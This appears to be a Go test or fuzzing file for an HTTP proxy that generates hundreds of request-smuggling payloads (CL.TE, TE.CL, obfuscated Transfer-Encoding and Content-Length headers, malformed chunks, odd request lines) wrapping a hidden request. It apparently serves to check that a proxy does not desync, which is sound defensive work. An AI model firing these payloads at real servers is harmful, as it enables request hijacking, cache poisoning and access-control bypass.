package proxy

import (
	"fmt"
	"strings"
)

// hidden is the request that a smuggler hides. If two ends disagree about
// where the request around it ends, it shows at the origin.
const hidden = "GET http://HOST/smuggled HTTP/1.1\r\nHost: HOST\r\n\r\n"

// after is an honest request behind the payload, of which a smuggler would
// take the response or prefix the head.
const after = "GET http://HOST/after HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n"

// A payload is what a smuggler sends. In what follows HOST stands for the origin.
type payload struct{ name, raw string }

// payloads are the published ways to make two parsers disagree: Linhart et al.,
// "HTTP Request Smuggling" (2005); Kettle, "HTTP Desync Attacks" (2019),
// "Browser-Powered Desync Attacks" (2022) and the tool HTTP Request Smuggler;
// Klein, "HTTP Request Smuggling in 2020"; Jabiyev et al., "T-Reqs" (2021);
// Grenfeldt et al., "Attacking Websites Using HTTP Request Smuggling" (2021);
// w4ke, "Funky chunks" (2025); Kettle, "HTTP/1.1 must die" (2025).
func payloads(host string) []payload {
	var all []payload
	here := func(s string) string { return strings.ReplaceAll(s, "HOST", host) }
	hidden := here(hidden)
	add := func(name, raw string) { all = append(all, payload{name, here(raw + after)}) }
	post := func(fields, body string) string {
		return "POST http://HOST/outer HTTP/1.1\r\nHost: HOST\r\n" + fields + "\r\n" + body
	}
	length := fmt.Sprintf("Content-Length: %d\r\n", len("0\r\n\r\n"+hidden))

	add("control: sized", post("Content-Length: 5\r\n", "hello"))
	add("control: chunked", post("Transfer-Encoding: chunked\r\n", "5\r\nhello\r\n0\r\n\r\n"))
	add("control: chunked with trailer", post("Transfer-Encoding: chunked\r\nTrailer: X-T\r\n", "5\r\nhello\r\n0\r\nX-T: a\r\n\r\n"))
	add("control: no body", post("Content-Length: 0\r\n", ""))
	add("control: looks like a request", post(fmt.Sprintf("Content-Length: %d\r\n", len(hidden)), hidden))

	// Two lengths at once, and every known way to hide one of them.
	for _, te := range transferEncodings {
		add("CL.TE "+te, post(length+te+"\r\n", "0\r\n\r\n"+hidden))
		add("TE.CL "+te, post("Content-Length: 4\r\n"+te+"\r\n", fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(hidden), hidden)))
		add("TE alone "+te, post(te+"\r\n", "0\r\n\r\n"+hidden))
		add("TE.TE "+te, post("Transfer-Encoding: chunked\r\n"+te+"\r\n"+length, "0\r\n\r\n"+hidden))
	}
	for _, cl := range contentLengths {
		add("length "+cl, post(cl+"\r\n", "0\r\n\r\n"+hidden))
		add("length twice "+cl, post(length+cl+"\r\n", "0\r\n\r\n"+hidden))
		add("GET with "+cl, "GET http://HOST/outer HTTP/1.1\r\nHost: HOST\r\n"+cl+"\r\n\r\n"+hidden)
		add("HEAD with "+cl, "HEAD http://HOST/outer HTTP/1.1\r\nHost: HOST\r\n"+cl+"\r\n\r\n"+hidden)
	}
	for _, chunk := range chunks {
		add("chunk "+chunk, post("Transfer-Encoding: chunked\r\n", chunk))
	}
	// What Connection names is removed on the way, the framing too if one believes it.
	for _, name := range []string{"Content-Length", "Transfer-Encoding", "Host", "close, Content-Length", "keep-alive, Transfer-Encoding"} {
		add("Connection sized "+name, post("Connection: "+name+"\r\n"+length, "0\r\n\r\n"+hidden))
		add("Connection chunked "+name, post("Connection: "+name+"\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"+hidden))
	}
	for _, line := range requestLines {
		add("line "+line, line+"\r\nHost: HOST\r\n"+length+"\r\n0\r\n\r\n"+hidden)
	}
	for _, field := range heads {
		add("head "+field, post(field+length, "0\r\n\r\n"+hidden))
		add("head chunked "+field, post(field+"Transfer-Encoding: chunked\r\n", "0\r\n\r\n"+hidden))
	}
	// Who waits for a 100 may take the content for no part of the request, or the
	// 100 for its answer.
	for _, expect := range expectations {
		for _, method := range []string{"GET", "HEAD", "OPTIONS", "POST"} {
			add(method+" "+expect, method+" http://HOST/outer HTTP/1.1\r\nHost: HOST\r\n"+expect+"\r\n"+length+"\r\n0\r\n\r\n"+hidden)
		}
	}
	return all
}

var transferEncodings = []string{
	"Transfer-Encoding: chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding:\tchunked",
	"Transfer-Encoding:chunked", "Transfer-Encoding:  chunked", "Transfer-Encoding: chunked ", "Transfer-Encoding: chunked\t",
	" Transfer-Encoding: chunked", "\tTransfer-Encoding: chunked", "X: X\nTransfer-Encoding: chunked", "X: X\rTransfer-Encoding: chunked",
	"X: X\r\n Transfer-Encoding: chunked", "Transfer-Encoding\r\n : chunked", "Transfer-Encoding\n: chunked", "Transfer-Encoding:\r\n chunked",
	"Transfer-Encoding:\n chunked", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: 'chunked'", "Transfer-Encoding: chunked, identity",
	"Transfer-Encoding: identity, chunked", "Transfer-Encoding: identity", "Transfer-Encoding: chunked, chunked", "Transfer-Encoding: gzip, chunked",
	"Transfer-Encoding: chunked;q=1", "Transfer-Encoding: chunked;", "Transfer-Encoding: ,chunked", "Transfer-Encoding: chunked,",
	"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow", "Transfer-encoding: chunked",
	"TRANSFER-ENCODING: CHUNKED", "Transfer-Encoding: Chunked", "Transfer_Encoding: chunked", "Transfer-Encoding\x00: chunked",
	"Transfer-Encoding: \x00chunked", "Transfer-Encoding: chunked\x00", "Transfer-Encoding: \x0bchunked", "Transfer-Encoding: \x0cchunked",
	"Transfer-Encoding:\x0bchunked", "Transfer-Encoding: chunked\x0b", "Transfer-Encoding\x0b: chunked", "Transfer-Encoding: \x7fchunked",
	"Transfer-Encoding: \xffchunked", "\xffTransfer-Encoding: chunked", "Transfer-Encoding: chunk\xc5\xbfed", "Transfer-Encoding: chunKed",
	"Transfer-Encoding", "Transfer-Encoding:", "Transfer-Encoding chunked", "Content-Encoding: chunked", "Foo: bar\r\n\rTransfer-Encoding: chunked",
	"Transfer-Encoding: \rchunked", "Transfer-Encoding: chunked\r", "Transfer-Encoding:\u00a0chunked", "Transfer-Encoding: c\\hunked",
}

var contentLengths = []string{
	"Content-Length: 5", "Content-Length: +5", "Content-Length: -5", "Content-Length: 05", "Content-Length: 0x5", "Content-Length: 5,5", "Content-Length: 5, 6",
	"Content-Length:  5", "Content-Length: 5 ", "Content-Length:\t5", "Content-Length:5", "Content-Length: 5\t", "Content-Length : 5", "Content-Length: \x0b5",
	"Content-Length: 5\x00", "Content-Length: 5;", "Content-Length: \"5\"", "Content-Length: 5.0", "Content-Length: 5e0", "Content-Length: 5_0", "Content-Length: ",
	"Content-Length:", "Content-Length", "Content-Length: 5\r\nContent-Length: 5", "Content-Length: 5\r\nContent-Length: 6", "Content-Length: 5\r\n 6",
	"Content-Length: 18446744073709551621", "Content-Length: 9223372036854775813", "Content-Length: 4294967301", "content-length: 5", "Content_Length: 5",
	"Content-Length: 5 6", "Content-Length: five", "Content-Length: \xd9\xa5", "Content-Length: 5\nX: y", "Content-Length: 5\rX: y", " Content-Length: 5",
	"X: y\n\nContent-Length: 5", "Content-Length\xa0: 5", "Content-Length: 1 0", "Content-Length: 000000000000000000000000005", "Content-Length:\r\n 5",
}

var expectations = []string{
	"Expect: 100-continue", "Expect: 100-Continue", "Expect:100-continue", "Expect:\t100-continue", "Expect: 100-continue\t", "Expect:\r\n 100-continue", "Expect:\n 100-continue",
	"Expect : 100-continue", " Expect: 100-continue", "Expect: y 100-continue", "Expect: 100-continue, 100-continue", "Expect: 100-continue\r\nExpect: 100-continue", "Expect: 100-continue;a=b",
	"Expect: \"100-continue\"", "Expect: 100-continue\x00", "Expect: 99-continue", "Expect:", "X: y\nExpect: 100-continue", "X: y\rExpect: 100-continue", "Expect_: 100-continue",
	"Content-Length: \r\n 5\r\nExpect: 100-continue", "Expect: 100-continue\r\nConnection: Expect", "Expect: 100-continue\r\nConnection: close",
}

// Sizes, extensions and ends of chunks.
var chunks = []string{
	"0\r\n\r\n" + hidden, "00000000000000000\r\n\r\n" + hidden, "-0\r\n\r\n" + hidden, "+0\r\n\r\n" + hidden, "0x0\r\n\r\n" + hidden, " 0\r\n\r\n" + hidden,
	"0 \r\n\r\n" + hidden, "0\t\r\n\r\n" + hidden, "\r\n0\r\n\r\n" + hidden, "0\n\r\n" + hidden, "0\r\n\n" + hidden, "0\n\n" + hidden, "0\r\r\n\r\n" + hidden,
	"0;\r\n\r\n" + hidden, "0;a=b\r\n\r\n" + hidden, "0;a=\"b\"\r\n\r\n" + hidden, "0;a=\"\r\n\r\n" + hidden, "0;a\nb\r\n\r\n" + hidden, "0;a\rb\r\n\r\n" + hidden,
	"0;\n" + hidden + "\r\n\r\n", "2;\nxx\r\n0\r\n\r\n" + hidden, "2;a\rxx\r\n0\r\n\r\n" + hidden, "2;\nxx\r\n" + "4c\r\n0\r\n\r\n" + hidden + "\r\n0\r\n\r\n",
	"5\r\nhello0\r\n\r\n" + hidden, "5\r\nhelloXX0\r\n\r\n" + hidden, "5\r\nhello\n0\r\n\r\n" + hidden, "5\r\nhello\r0\r\n\r\n" + hidden, "5\nhello\r\n0\r\n\r\n" + hidden,
	"5\rhello\r\n0\r\n\r\n" + hidden, "0x5\r\nhello\r\n0\r\n\r\n" + hidden, "5_\r\nhello\r\n0\r\n\r\n" + hidden, "5g\r\nhello\r\n0\r\n\r\n" + hidden,
	"10000000000000005\r\nhello\r\n0\r\n\r\n" + hidden, "ffffffffffffffff\r\nhello\r\n0\r\n\r\n" + hidden, "8000000000000000\r\nhello\r\n0\r\n\r\n" + hidden,
	"100000005\r\nhello\r\n0\r\n\r\n" + hidden, "\r\n", "5\r\nhel", "5\r\nhello\r\n", "5\r\nhello\r\n0\r\n", "5\r\nhello\r\n0", "5",
	"0\r\nContent-Length: 5\r\n\r\n" + hidden, "0\r\nTransfer-Encoding: chunked\r\n\r\n" + hidden, "0\r\nHost: other\r\n\r\n" + hidden, "0\r\nX\r\n\r\n" + hidden,
	"0\r\n X: y\r\n\r\n" + hidden, "0\r\nX: y\n\r\n" + hidden, "0\r\nX: y\n\n" + hidden, "0\r\n" + hidden, "0\r\n: y\r\n\r\n" + hidden, "0\r\nX : y\r\n\r\n" + hidden,
	"5 ;a\r\nhello\r\n0\r\n\r\n" + hidden, "5\x00\r\nhello\r\n0\r\n\r\n" + hidden, "5\x0b\r\nhello\r\n0\r\n\r\n" + hidden, "5;a=b;c=\"d\\\"e\"\r\nhello\r\n0\r\n\r\n" + hidden,
	"5;" + strings.Repeat("a", 70000) + "\r\nhello\r\n0\r\n\r\n" + hidden, "0\r\n\rX\n" + hidden, "05\r\nhello\r\n0\r\n\r\n" + hidden,
}

var requestLines = []string{
	"POST /outer HTTP/1.1", "POST http://HOST/outer HTTP/1.0", "POST http://HOST/outer HTTP/0.9", "POST http://HOST/outer", "POST http://HOST/outer HTTP/2.0",
	"POST http://HOST/outer HTTP/1.2", "POST http://HOST/outer HTTP/01.1", "POST http://HOST/outer http/1.1", "POST http://HOST/outer HTTP/1.1 ",
	"POST  http://HOST/outer HTTP/1.1", "POST http://HOST/outer  HTTP/1.1", "POST\thttp://HOST/outer\tHTTP/1.1", " POST http://HOST/outer HTTP/1.1",
	"\r\nPOST http://HOST/outer HTTP/1.1", "\r\n\r\n\r\nPOST http://HOST/outer HTTP/1.1", "\nPOST http://HOST/outer HTTP/1.1",
	"POST http://HOST/outer HTTP/1.1 HTTP/1.1", "POST http://HOST/ou ter HTTP/1.1", "POST http://HOST/outer\x00 HTTP/1.1", "POST http://HOST/out\ner HTTP/1.1",
	"POST http://HOST/out\rer HTTP/1.1", "POST http://HOST/%0d%0aX:%20y HTTP/1.1", "POST http://HOST/outer?a=%0d%0a HTTP/1.1", "POST http://HOST/outer#x HTTP/1.1",
	"POST http://HOST/\xc4\x8d\xc4\x8a HTTP/1.1", "P\x00ST http://HOST/outer HTTP/1.1", "POST: http://HOST/outer HTTP/1.1", "post http://HOST/outer HTTP/1.1",
	"POST http://HOST\\@other/outer HTTP/1.1", "POST http://HOST/../../outer HTTP/1.1", "POST //HOST/outer HTTP/1.1", "POST http:/HOST/outer HTTP/1.1",
	"POST http://user@HOST/outer HTTP/1.1", "POST HTTP://HOST/outer HTTP/1.1", "POST http://HOST?x HTTP/1.1", "POST * HTTP/1.1", "PUT http://HOST/outer HTTP/1.1",
	"DELETE http://HOST/outer HTTP/1.1", "OPTIONS http://HOST/outer HTTP/1.1", "X-NEW http://HOST/outer HTTP/1.1", "PRI * HTTP/2.0", "GET http://HOST/outer HTTP/1.1",
}

var heads = []string{
	"X: y\r\n z\r\n", "X: y\r\n\tz\r\n", "X: y\n", "X: y\r", "X: y\r\r\n", "X: y\x00z\r\n", "X : y\r\n", "X\r\n", ": y\r\n", "X\x00: y\r\n", "X(: y\r\n", "\r: y\r\n", " X: y\r\n",
	"X: a\x0bb\r\n", "X: a\x7fb\r\n", "Host: other\r\n", "Host : HOST\r\n", "HOST: other\r\n", "Expect: 100-continue\r\n", "Expect: 100-continue, x\r\n", "Expect: y 100-continue\r\n",
	"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n", "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777\r\n",
	"TE: trailers\r\n", "Trailer: Content-Length\r\n", "Trailer: Transfer-Encoding, Host\r\n", "X-HTTP-Method-Override: PUT\r\n", "Keep-Alive: timeout=5\r\n",
	"Proxy-Connection: keep-alive\r\n", "Connection: keep-alive\r\nConnection: close\r\n", "Max-Forwards: 0\r\n", "Content-Type: a\r\nContent-Type: b\r\n", "Range: bytes=0-0\r\n",
	"X: \xff\xfe\r\n", "X: y\r\n\n", "X: " + strings.Repeat("y", 4090) + "\r\n", strings.Repeat("X: y\r\n", 90),
}
